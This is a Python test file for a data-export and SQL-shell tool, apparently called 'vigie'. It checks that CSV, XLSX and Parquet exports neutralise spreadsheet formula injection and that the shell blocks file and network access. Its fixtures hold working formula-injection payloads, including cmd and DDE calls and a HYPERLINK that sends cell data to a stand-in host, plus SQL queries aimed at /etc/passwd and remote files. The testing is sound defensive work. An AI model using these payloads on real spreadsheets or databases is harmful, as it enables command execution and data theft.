"""export and `vigie sql`: answers whole, safe in a spreadsheet, nothing else reached."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rich.cells import cell_len
from typer.testing import CliRunner

from pipelines import analyst, cli, console, contract, export, publish, sql_shell
from pipelines.errors import VigieError
from tests.pipelines.staged import SEEN, mention, score, stored

HOSTILE = [
    "=1+1",
    '=cmd|"/c calc"!A1',
    '=HYPERLINK("http://x.example/?"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1"',
    "＝1+1",
    "a;=1+1",
    'a,"=1+1"',
    "#N/A",
    "{=1+1}",
    "'=1+1",
    "=DDE(\"soffice\";\"/etc/passwd\";\"x\")",
    "\x00=1+1\x07",
    "\u202e=1+1",
]  # fmt: skip


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An English home whose analysts' file holds every hostile text, and one own post."""
    home = tmp_path_factory.mktemp("home")
    mentions = [mention(n, text=text) for n, text in enumerate(HOSTILE, 1)]
    mentions.append(mention(99, is_own=True, view_count=7))
    with stored(home, mentions, scores=map(score, mentions)) as connection:
        connection.execute("update institution set locale = 'en'")
    publish.publish(home, made_at=SEEN)
    return home


@pytest.fixture
def connection(home: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    """That file, open for questions."""
    with analyst.opened(home) as connection:
        yield connection


ROWS = """\
select text, like_count, -3 as minus, -0.5::double as part, true as yes, day_on, published_at,
    topics_of.topics, 9007199254740993 as long
from mention_public, (select ['=1+1', 'T09'] as topics) as topics_of
where not is_own order by published_at desc
"""


def _written(
    connection: duckdb.DuckDBPyConnection, to: Path, query: str = ROWS, **more: Any
) -> int:
    return export.export(connection, query, to, name="", now=SEEN, **more)


def test_a_csv_is_whole_and_no_cell_begins_a_formula(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    to = tmp_path / "a.csv"
    assert _written(connection, to) == len(HOSTILE)
    content = to.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    for separator in ",;\t":  # as a spreadsheet of another country parts it
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=separator):
            for cell in row:
                bare = cell.strip().strip("\"'").strip()
                assert not cell.strip().startswith(("=", "+", "@", "＝")), cell
                assert bare[:1] != "=" or cell.strip().startswith(("'", "\"'")), cell
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row["minus"] for row in rows] == ["-3"] * len(HOSTILE)
    assert rows[0]["part"] == "-0.5"
    assert rows[0]["long"] == "9007199254740993"


def test_beside_a_csv_stands_what_it_rests_on(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    _written(connection, tmp_path / "a.csv", separator=";")
    told = json.loads((tmp_path / "a.csv-metadata.json").read_text(encoding="utf-8"))
    assert told["url"] == "a.csv"
    assert told["dialect"]["delimiter"] == ";"
    assert told["vigie:rows"] == len(HOSTILE)
    assert told["vigie:query"] == ROWS
    assert told["vigie:institution"] == "Ville de Valbrume"
    assert told["vigie:contract"] == contract.version()
    assert told["vigie:asked_at"] == "2026-11-20T10:15:00Z"
    assert "is_own" in told["vigie:caveats"]
    assert "GDPR" in told["vigie:law"]
    assert told["@context"][1] == {"@language": "en"}
    described = {c["titles"]: c.get("dc:description") for c in told["tableSchema"]["columns"]}
    assert described["text"] == "Masked text; empty once it has expired."


def test_an_xlsx_holds_texts_as_texts_and_numbers_as_numbers(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    to = tmp_path / "a.xlsx"
    _written(connection, to)
    book = openpyxl.load_workbook(to)
    assert book.sheetnames == ["data", "about"]
    for sheet in book:
        assert {c.data_type for row in sheet for c in row} <= {"s", "inlineStr", "n", "b", "d"}
    head, *rows = book["data"].iter_rows()
    texts = [row[0].value for row in rows]
    shown = [text.replace("\x00", "\ufffd").replace("\x07", "\ufffd") for text in HOSTILE]
    assert sorted(texts) == sorted(t.replace("\r", "\n") for t in shown)
    assert all(row[0].quotePrefix for row in rows)
    first = dict(zip([c.value for c in head], rows[0], strict=True))
    assert (first["minus"].value, first["part"].value, first["yes"].value) == (-3, -0.5, True)
    assert first["day_on"].value.date() == date(2026, 11, 20)
    assert first["long"].value == "9007199254740993"
    assert first["topics"].value == '["=1+1", "T09"]'
    about = {row[0]: row[1] for row in book["about"].values if row[0]}
    assert ROWS.startswith(about["Query"])
    assert about["Version of the contract"] == contract.version()
    assert about["Rows"] == str(len(HOSTILE))


def test_a_sheet_shows_its_moments_whole_with_their_zone_and_folds_long_texts(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    to = tmp_path / "a.xlsx"
    query = "select published_at, day_on, repeat('le pont ', 40) as text from mention_public"
    _written(connection, to, query)
    sheet = openpyxl.load_workbook(to)["data"]
    assert sheet.freeze_panes == "A2"
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths[0] >= len("2026-11-20 10:15:00 UTC")
    assert widths[1] >= len("2026-11-20")
    assert widths[2] == export.WIDEST
    at, day, text = sheet[2]
    assert (at.number_format, at.is_date, day.is_date) == ('yyyy-mm-dd hh:mm:ss "UTC"', True, True)
    assert text.alignment.wrap_text
    assert at.alignment.vertical == "top"
    heights = [sheet.row_dimensions[row].height for row in (1, 2)]
    assert heights[0] is None
    assert heights[1] >= 15 * len("le pont ") * 40 / export.WIDEST


def test_rows_past_the_end_of_a_sheet_go_to_the_next(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    to = tmp_path / "a.xlsx"
    query = "select i from range(25) as t (i) order by i"
    assert _written(connection, to, query, sheet_rows=11) == 25
    book = openpyxl.load_workbook(to)
    assert book.sheetnames == ["data", "data 2", "data 3", "about"]
    found = [row[0] for name in book.sheetnames[:3] for row in list(book[name].values)[1:]]
    assert found == list(range(25))
    assert [next(book[name].values)[0] for name in book.sheetnames[:3]] == ["i"] * 3


def test_a_text_that_no_cell_can_hold_is_an_error_and_leaves_no_file(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    with pytest.raises(VigieError, match=r"'long' holds a text of 40000 .*\.csv or \.parquet"):
        _written(connection, tmp_path / "a.xlsx", "select repeat('é', 40000) as long")
    assert list(tmp_path.iterdir()) == []
    assert _written(connection, tmp_path / "a.csv", "select repeat('é', 40000) as long") == 1


def test_a_parquet_keeps_types_texts_and_what_it_rests_on(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    to = tmp_path / "a.parquet"
    _written(connection, to)
    table = pq.read_table(to)
    assert sorted(table["text"].to_pylist()) == sorted(HOSTILE)
    assert str(table.schema.field("published_at").type) == "timestamp[us, tz=UTC]"
    told = {key.decode(): value.decode() for key, value in table.schema.metadata.items()}
    assert told["vigie.query"] == ROWS
    assert told["vigie.contract"] == contract.version()
    assert table.schema.field("text").metadata[b"comment"].startswith(b"Masked")


@pytest.mark.parametrize("ending", ["csv", "xlsx", "parquet"])
def test_an_answer_without_rows_is_a_file_with_its_columns(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path, ending: str
) -> None:
    to = tmp_path / f"a.{ending}"
    assert _written(connection, to, "select text from mention_public where false") == 0
    if ending == "xlsx":
        assert list(openpyxl.load_workbook(to)["data"].values) == [("text",)]
    elif ending == "csv":
        assert to.read_text(encoding="utf-8-sig").strip() == '"text"'
    else:
        assert pq.read_schema(to).names == ["text"]


def test_an_ending_that_is_none_says_which_there_are(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    with pytest.raises(VigieError, match=r"an ending, \.csv, \.parquet or \.xlsx"):
        _written(connection, tmp_path / "a.ods")


@pytest.mark.parametrize(
    "query",
    [
        "select * from read_csv('/etc/passwd')",
        "select content from read_text('/etc/hostname')",
        "select * from glob('/etc/*')",
        "from '/etc/passwd'",
        "copy mention_public to '/tmp/x.csv'",
        "export database '/tmp/x'",
        "attach '/tmp/x.db'",
        "install httpfs",
        "load '/tmp/x.duckdb_extension'",
        "delete from mention_public",
        "create table x as select 1",
        "set enable_external_access = true",
        "set lock_configuration = false",
        "pragma threads = 64",
        "select * from read_parquet('https://example.org/x.parquet')",
    ],
)
def test_nothing_but_the_file_can_be_reached_or_changed(
    connection: duckdb.DuckDBPyConnection, query: str
) -> None:
    with pytest.raises(VigieError) as error:
        analyst.run(connection, query)
    assert len(str(error.value)) > 20


def test_a_mistake_is_told_with_what_to_do(connection: duckdb.DuckDBPyConnection) -> None:
    with pytest.raises(VigieError, match=r"\.tables lists the tables"):
        analyst.run(connection, "from mention")
    with pytest.raises(VigieError, match="there is nothing to ask"):
        analyst.run(connection, " -- nothing ")
    with pytest.raises(VigieError, match=r"try .*tone_by_day"):
        analyst.asked(connection, "tone_by_dya")
    with pytest.raises(VigieError, match="no name of a parameter"):
        analyst.set_variables(connection, {"a = 1; drop": "x"})
    analyst.set_variables(connection, {"said": "l'eau'; select 1 --"})
    found = analyst.run(connection, "select getvariable('said')").fetchall()
    assert found == [("l'eau'; select 1 --",)]
    analyst.set_variables(connection, {"select": "1"})  # a word of SQL is a name like another
    assert analyst.run(connection, "select getvariable('select')").fetchall() == [("1",)]


LATE = "select cast(if(i = 900000, 'x', '1') as int) as n from range(1000000) t (i)"


@pytest.mark.parametrize("ending", ["csv", "xlsx", "parquet"])
def test_a_query_that_breaks_off_late_is_told_and_leaves_no_file(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path, ending: str
) -> None:
    with pytest.raises(VigieError, match="broke off: Conversion Error"):
        _written(connection, tmp_path / f"a.{ending}", LATE)
    assert list(tmp_path.iterdir()) == []


def test_a_fault_that_another_thread_met_is_told_and_not_that_it_interrupted_us(
    connection: duckdb.DuckDBPyConnection,
) -> None:
    def interrupted() -> Iterator[pa.RecordBatch]:
        yield pa.RecordBatch.from_pydict({"n": [1]})
        raise OSError("INTERRUPT Error: Interrupted!")

    pieces = export._read(connection, f"select 1; {LATE}", interrupted())
    assert next(pieces).num_rows == 1
    with pytest.raises(duckdb.ConversionException, match="'x'"):
        next(pieces)
    with pytest.raises(OSError, match="INTERRUPT"):
        list(export._read(connection, "select 1", interrupted()))


def test_the_shell_goes_on_after_what_went_wrong(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("")
    lines = [f"{LATE};", f".export {tmp_path}/a.csv", f".export {tmp_path}/file/a.csv"]
    said = _said(home, [*lines, ".set select 1", "select 6 * 7;"], capsys)
    assert "broke off" in said
    assert "is no folder: make it" in " ".join(said.split())
    assert "42" in said


def _said(home: Path, lines: list[str], capsys: pytest.CaptureFixture[str]) -> str:
    with analyst.opened(home) as connection:
        sql_shell.talk(sql_shell.Shell(connection, lambda: SEEN), lines)
    return capsys.readouterr().out


def test_the_shell_lists_asks_shows_and_writes(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    to = tmp_path / "it is.csv"
    lines = [
        ".tables", ".schema own_post", ".queries", ".macros", ".help",
        "select count(*) as n", "  from mention_public;", f".export '{to}'",
        ".run own_posts", ".nothing", ".schema nowhere", "selct 1;", ".quit", ".tables",
    ]  # fmt: skip
    said = _said(home, lines, capsys)
    for word in ("mention_public", "engagement_rate", "tone_by_day", "last_days", ".export FILE"):
        assert word in said
    assert "1 row is written" in said
    assert to.read_text(encoding="utf-8-sig").split() == ['"n"', str(len(HOSTILE) + 1)]
    assert "there is no .nothing" in said
    assert "there is no table 'nowhere'" in said
    assert "Parser Error" in said
    assert said.count("alert_log") == 1


def test_the_shell_prints_no_control_character_of_a_stranger(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    said = _said(home, ["select text from mention_public;"], capsys)
    assert not [c for c in said if not c.isprintable() and c != "\n"]


def test_the_shell_says_that_there_are_more_rows(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "The first 50 rows" in _said(home, ["select i from range(51) as t (i);"], capsys)
    assert "The first" not in _said(home, ["select i from range(50) as t (i);"], capsys)


def test_the_commands_ask_and_write(home: Path, tmp_path: Path) -> None:
    runner, at = CliRunner(), ["--home", str(home)]
    asked = runner.invoke(cli.app, ["sql", "select 41 + 1 as answer", *at])
    assert "42" in asked.output
    query = tmp_path / "q.sql"
    query.write_text("select 1 as a, '=x' as b", encoding="utf-8")
    whole = runner.invoke(cli.app, ["sql", "--csv", "-f", str(query), *at])
    assert whole.stdout.lstrip("\ufeff") == '"a","b"\n1,"\'=x"\n'
    to = tmp_path / "own.xlsx"
    done = runner.invoke(cli.app, ["export", "own_posts", "--to", str(to), *at])
    assert "1 row is written" in done.output
    assert openpyxl.load_workbook(to)["about"]["B2"].value == "own_posts"
    with pytest.raises(VigieError, match="dites ce qu’il faut exporter"):
        runner.invoke(cli.app, ["export", "--to", str(to), *at], catch_exceptions=False)


def test_a_home_without_the_file_says_what_makes_it(tmp_path: Path) -> None:
    with pytest.raises(VigieError, match="vigie upkeep"), analyst.opened(tmp_path):
        pass


def test_a_file_of_an_older_version_says_so(tmp_path: Path) -> None:
    (tmp_path / "published").mkdir()
    duckdb.connect(str(tmp_path / analyst.FILE)).close()
    with (
        analyst.opened(tmp_path) as connection,
        pytest.raises(VigieError, match="older version"),
    ):
        analyst.about(connection)


def _piped(home: Path, script: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pipelines.cli", "sql", "--home", str(home)],
        input=script, capture_output=True, text=True, check=False,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("script", "told"),
    [
        ("select 1 as a;\nselct 2;\nselect 6 * 7;\n", "Parser Error"),
        (".run nothing_like_it\nselect 6 * 7;\n", "there is no question"),
        ("select 6 * nothing", "Binder Error"),
        ("select 1;\n.export /dev/null/a.csv\nselect 6 * 7;\n", "name another file"),
    ],
)
def test_a_script_stops_at_an_error_and_fails(home: Path, script: str, told: str) -> None:
    done = _piped(home, script)
    assert done.returncode == 2
    assert told in done.stderr
    assert "42" not in done.stdout


def test_a_script_may_leave_before_its_end(home: Path) -> None:
    done = _piped(home, "select 6 * 7\n as n;\n\n.quit\nselct 1;\n")
    assert done.returncode == 0
    assert "42" in done.stdout


@pytest.mark.parametrize("width", [30, 60, 80, 200])
def test_no_word_of_a_head_is_cut(
    home: Path, width: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(console.out, "_width", width)
    names = ["day_on", "mention_count", "undetermined_count", "negative_share", "last"]
    values = ["date '2026-11-20'", "123456", "7", "0.25", "'fin'"]
    pairs = ", ".join(f"{value} as {name}" for value, name in zip(values, names, strict=True))
    said = _said(home, [f"select {pairs};"], capsys)
    for word in (part for name in names for part in name.split("_")):
        assert word in said
    assert "fin" in said
    assert max(map(len, said.splitlines())) <= width


@pytest.mark.parametrize("width", [30, 60, 80])
def test_letters_that_take_two_columns_are_counted_as_two(
    home: Path, width: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(console.out, "_width", width)
    query = "select repeat('東京', 12) as said, repeat('é', 70) as text, 'fin' as last;"
    lines = _said(home, [query], capsys).splitlines()
    assert max(map(cell_len, lines)) <= width
    assert "".join(lines).count("東") == 12


def test_a_value_is_cut_where_it_is_too_wide_and_stands_on_one_line(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(console.out, "_width", 200)
    said = _said(home, [r"select repeat('東', 60) as a, E'un\n  deux' as b;"], capsys)
    assert "東" * 39 in said
    assert "東" * 40 not in said
    assert "un deux" in said


def test_an_answer_without_rows_shows_its_heads_however_narrow(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(console.out, "_width", 20)
    said = _said(home, ["select 1 as first_number, 2 as second_number limit 0;"], capsys)
    assert "second" in said


@pytest.mark.parametrize(
    "query",
    [
        "selct 1",
        "select nothing from about",
        "from nowhere",
        "select cast('x' as int)",
        "delete from about",
        "from '/etc/passwd'",
        "select nothing_like(1)",
    ],
)
def test_every_refusal_says_what_to_do(connection: duckdb.DuckDBPyConnection, query: str) -> None:
    with pytest.raises(VigieError, match=r"\n[.A-Zt]\w+.*\.$"):
        analyst.run(connection, query).fetchall()


def test_what_is_typed_is_asked_on_a_terminal_only(home: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "pipelines.cli", "sql", "--home", str(home)],
        input="select 6 * 7 as answer;\n", capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert "42" in done.stdout
    assert datetime.now(UTC) > SEEN


def test_a_folder_that_is_not_there_is_not_made_and_a_file_replaced_is_told(
    home: Path, tmp_path: Path
) -> None:
    def said(to: Path) -> str:
        return sql_shell.written(
            home, "acts", query=None, to=to, separator=",", values=(), now=SEEN
        )

    with pytest.raises(VigieError, match="is no folder: make it"):
        said(tmp_path / "typo" / "a.csv")
    assert not (tmp_path / "typo").exists()
    assert said(tmp_path / "a.csv").endswith("a.csv")
    assert said(tmp_path / "a.csv").endswith("in place of the file that was there")


def test_a_day_given_to_a_question_may_be_written_in_french(home: Path, tmp_path: Path) -> None:
    to, day = tmp_path / "a.csv", ("decided_on=01/10/2026",)
    sql_shell.written(home, "before_after", query=None, to=to, separator=",", values=day, now=SEEN)
    assert to.exists()


@pytest.mark.parametrize(
    ("query", "read"),
    [
        ("from last_days(7)", ["about", "mention_public"]),
        (
            "from last_days(7) semi join of_topic('T20') using (mention_id)",
            ["about", "mention_public", "mention_topic"],
        ),
        ("set variable a = 'topic'; from posted() -- coverage", ["about", "own_post"]),
        ("pivot not_own() on network using count(*)", ["mention_public"]),
        ("with topic as (select 1 as a) from topic", []),
        ("select share_low(1, 2)", []),
        ("selct 1", []),
    ],
)
def test_what_is_told_beside_an_answer_knows_the_tables_behind_macros(
    connection: duckdb.DuckDBPyConnection, query: str, read: list[str]
) -> None:
    assert analyst.tables(connection, query) == read


def test_an_export_tells_its_parameters_and_what_the_question_is(
    home: Path, tmp_path: Path
) -> None:
    to, values = tmp_path / "a.csv", ("decided_on=01/10/2026", "other=1")
    sql_shell.written(
        home, "analyst_before_after.sql", query=None, to=to, separator=",", values=values, now=SEEN
    )
    told = json.loads((tmp_path / "a.csv-metadata.json").read_text(encoding="utf-8"))
    assert told["vigie:question"] == "before_after"
    assert told["vigie:asks"] == "what has changed since a decision?"
    assert told["vigie:parameters"] == "decided_on=2026-10-01"
    assert told["vigie:caveat"].startswith("after is not because of")
    assert "daily_tone: " in told["vigie:caveats"]
